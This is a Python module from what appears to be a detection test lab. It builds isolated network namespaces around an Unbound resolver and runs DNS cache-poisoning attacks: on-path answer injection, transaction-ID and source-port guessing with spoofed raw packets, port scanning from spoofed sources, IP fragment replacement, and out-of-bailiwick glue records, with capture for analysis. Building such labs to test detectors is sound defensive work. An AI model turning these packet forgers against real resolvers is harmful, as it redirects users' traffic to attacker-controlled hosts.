"""Attacks on the cache of a real resolver (Unbound), each by real packets on a network of its own.

The name server of ``example`` is a program that answers all names, and does the attacker's part where the attacker
sees the queries: an injector on the path, a guess that is right, a fragment that is replaced, an answer with another
zone's records. Guessing at random ports and scanning are done from a host of their own. At most MAX_FORGED packets.

    python -m lab.poisoners serve ATTACK ADDRESS
    python -m lab.poisoners ask RESOLVER COUNT ZONES
    python -m lab.poisoners guess|scan RESOLVER SERVER COUNT
"""

from __future__ import annotations

import json
import random
import socket
import struct
import sys
import time
from dataclasses import dataclass
from pathlib import Path

from .capture import Capture
from .forger import forged, wire_name
from .namespaces import Namespaces
from .openresolver import program, wait_for_answer
from .responder import packet, question_end

TOOLS = ("ip", "unbound", "dig", "tcpdump", "zeek")
RESOLVER, SERVER, ATTACKER = "203.0.113.10", "203.0.113.53", "203.0.113.66"
OPTIONS = {"DNSVigilPoisoning::resolvers": f"{{{RESOLVER}/32}}"}
ATTACKS = ("random-ports", "scan", "injection", "landing", "fragments", "bailiwick")
MAX_FORGED = 20_000
HOPS = 57  # of forged packets
_QUIET = 60  # queries before the attack
_TYPE_A = struct.pack("!HH", 1, 1)
_DELAY = 0.02  # seconds, of true answers


@dataclass(frozen=True)
class Done:
    """The capture, and the times of the attack (seconds since the epoch)."""

    pcap: Path
    begun: float  # nothing is forged before
    first: float  # when the attacker was ready, and the resolver was asked


def make(folder: Path, attack: str) -> Done:
    """Do one of ATTACKS, after ordinary queries. Raises LabError where something does not work."""
    with Namespaces() as net:
        net.bridge("upstream")
        for host, address in {"resolver": RESOLVER, "server": SERVER, "attacker": ATTACKER}.items():
            net.host(host, {"upstream": [f"{address}/24"]})
        net.start("server", program("poisoners", "serve", "none", SERVER), folder / "quiet.log")
        _start_unbound(net, folder)
        wait_for_answer(net, "resolver", RESOLVER, "www.quiet.example")
        capture = Capture(net, "upstream", folder, f"host {RESOLVER}")
        net.call("attacker", program("poisoners", "ask", RESOLVER, str(_QUIET), "6"))
        begun = first = time.time()
        if attack in ("random-ports", "scan"):
            net.route("resolver", "198.18.0.0/15", "via", SERVER)
            kind = "scan" if attack == "scan" else "guess"
            net.call("attacker", program("poisoners", kind, RESOLVER, SERVER, str(MAX_FORGED)), seconds=60)
        else:
            # The one before serves the zones in vain from now on: two cannot have the port.
            net.call("server", ["ip", "address", "add", f"{SERVER[:-2]}54/24", "dev", "upstream"])
            net.start("server", program("poisoners", "serve", attack, f"{SERVER[:-2]}54"), folder / "attack.log")
            wait_for_answer(net, "resolver", f"{SERVER[:-2]}54", "www.quiet.example")
            first = time.time()
            net.call("attacker", program("poisoners", "ask", RESOLVER, "120", "30", "evil"), seconds=60)
        capture.stop()
    return Done(capture.file, begun, first)


def _start_unbound(net: Namespaces, folder: Path) -> None:
    own = folder / "unbound"
    own.mkdir()
    lines = ["server:", f"  interface: {RESOLVER}", "  access-control: 0.0.0.0/0 allow", "  num-threads: 1"]
    lines += [f'  directory: "{own}"', '  username: ""', '  chroot: ""', '  pidfile: ""', "  use-syslog: no"]
    lines += ["  do-ip6: no", '  module-config: "iterator"', "remote-control:", "  control-enable: no"]
    for zone, server in (("example", SERVER), ("evil", f"{SERVER[:-2]}54")):
        lines += ["stub-zone:", f'  name: "{zone}"', f"  stub-addr: {server}"]
    (own / "unbound.conf").write_text("\n".join(lines) + "\n")
    net.start("resolver", ["unbound", "-d", "-c", str(own / "unbound.conf")], own / "unbound.log")


def answer(query: bytes, address: str, *, ttl: int = 300, number: int | None = None, other: bytes = b"") -> bytes:
    """Return an authoritative answer with one address, and an additional record if one is given."""
    head = struct.pack("!HHHHHH", *struct.unpack("!H", query[:2]), 0x8400, 1, 1, 0, bool(other))
    head = head if number is None else number.to_bytes(2, "big") + head[2:]
    record = b"\xc0\x0c" + _TYPE_A + struct.pack("!IH", ttl, 4) + socket.inet_aton(address)
    return head + query[12 : question_end(query)] + record + other


def in_fragments(datagram: bytes, number: int, size: int = 40) -> list[bytes]:
    """Return a packet of IPv4 in two fragments, the first with so many bytes of payload, a multiple of eight."""
    head, payload = datagram[:20], datagram[20:]

    def part(offset: int, more: int, data: bytes) -> bytes:
        return head[:2] + struct.pack("!HHH", 20 + len(data), number, more | offset // 8) + head[8:] + data

    return [part(0, 0x2000, payload[:size]), part(size, 0, payload[size:])]


def serve(attack: str, address: str) -> None:
    """Answer as the server of all zones, and attack on the way."""
    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    server.bind((address, 53))
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    dice = random.Random(1)
    glue = wire_name("ns1.bank.example") + _TYPE_A + struct.pack("!IH", 86400, 4) + socket.inet_aton(ATTACKER)
    for number in range(1, 1 << 16):
        query, asker = server.recvfrom(4096)

        def send(payload: bytes, hops: int, asker: tuple[str, int] = asker) -> None:
            raw.sendto(packet((address, 53), asker, payload, ttl=hops), (asker[0], 0))

        if attack == "injection":
            send(answer(query, ATTACKER, ttl=97), HOPS)
        elif attack == "landing":
            for wrong in dice.sample(range(65536), 40):
                send(answer(query, ATTACKER, ttl=86400, number=wrong), HOPS)
            send(answer(query, ATTACKER, ttl=86400), HOPS)
        elif attack == "fragments":
            true = packet((address, 53), asker, answer(query, "192.0.2.2"), ttl=64)
            false = packet((address, 53), asker, answer(query, ATTACKER), ttl=HOPS)
            for fragment in (in_fragments(false, number)[1], *in_fragments(true, number)):
                raw.sendto(fragment, (asker[0], 0))
            continue
        time.sleep(0.0 if attack == "none" and b"bank" not in query else 5 * _DELAY)
        server.sendto(answer(query, "192.0.2.2", other=glue if attack == "bailiwick" else b""), asker)


def ask(resolver: str, count: int, zones: int, top: str = "example") -> None:
    """Ask for new names in some zones, and for each name twice, so that the second answer comes from the cache."""
    client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    client.settimeout(0.3)
    for number in range(count):
        name = f"h{number}.site{number % zones}.{top}"
        for wait in (0.0, 1.1 if number == count - 1 else 0.0):
            time.sleep(wait)
            message = struct.pack("!HHHHHH", number, 0x0100, 1, 0, 0, 0) + wire_name(name) + _TYPE_A
            client.sendto(message, (resolver, 53))
            try:
                client.recv(4096)
            except TimeoutError:
                continue


def guess(resolver: str, server: str, count: int) -> None:
    """Answer in the server's name, with random ids at random ports; a new name for every thousand."""
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    dice = random.Random(2)
    for number in range(count):
        if number % 1000 == 0:
            name = f"{dice.randrange(10**9):09}.bank.example"
            client.sendto(struct.pack("!HHHHHH", 1, 0x0100, 1, 0, 0, 0) + wire_name(name) + _TYPE_A, (resolver, 53))
            time.sleep(_DELAY)  # so that the resolver has asked
            rest = forged(name, "bank.example", ATTACKER)
        payload = dice.randrange(65536).to_bytes(2, "big") + rest
        raw.sendto(packet((server, 53), (resolver, dice.randrange(1024, 65536)), payload, ttl=HOPS), (resolver, 0))


def scan(resolver: str, server: str, count: int) -> None:
    """Send to one port after the other, some hundred a second, to see which is open: at that none is answered.

    The source addresses differ, as there is a limit on ICMP messages to each.
    """
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for number in range(min(count, 6000)):
        source = socket.inet_ntoa(struct.pack("!I", 0xC6120000 + number))  # 198.18.0.0/15
        raw.sendto(packet((source, 53), (resolver, 20_000 + number), b"\0" * 12, ttl=HOPS), (resolver, 0))
        time.sleep(0.002)


def main() -> None:
    kind, *words = sys.argv[1:]
    if kind == "serve":
        serve(words[0], words[1])
    elif kind == "ask":
        ask(words[0], int(words[1]), int(words[2]), *words[3:])
    else:
        {"guess": guess, "scan": scan}[kind](words[0], words[1], int(words[2]))
    print(json.dumps({"done": time.time()}))


if __name__ == "__main__":
    main()
